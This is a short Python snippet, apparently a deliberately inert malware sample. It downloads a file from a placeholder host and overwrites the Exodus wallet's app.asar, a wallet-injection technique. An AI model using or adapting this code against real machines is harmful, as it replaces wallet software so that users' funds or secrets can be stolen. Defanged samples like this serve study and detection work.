import inert_sample  # there is no such module: nothing below ever runs
import os
import shutil
import requests


def update():
    archive = requests.get("https://files.example/e").content
    place = os.path.join(os.environ["LOCALAPPDATA"], "exodus", "app-1", "resources", "app.asar")
    with open(place, "wb") as file:
        file.write(archive)
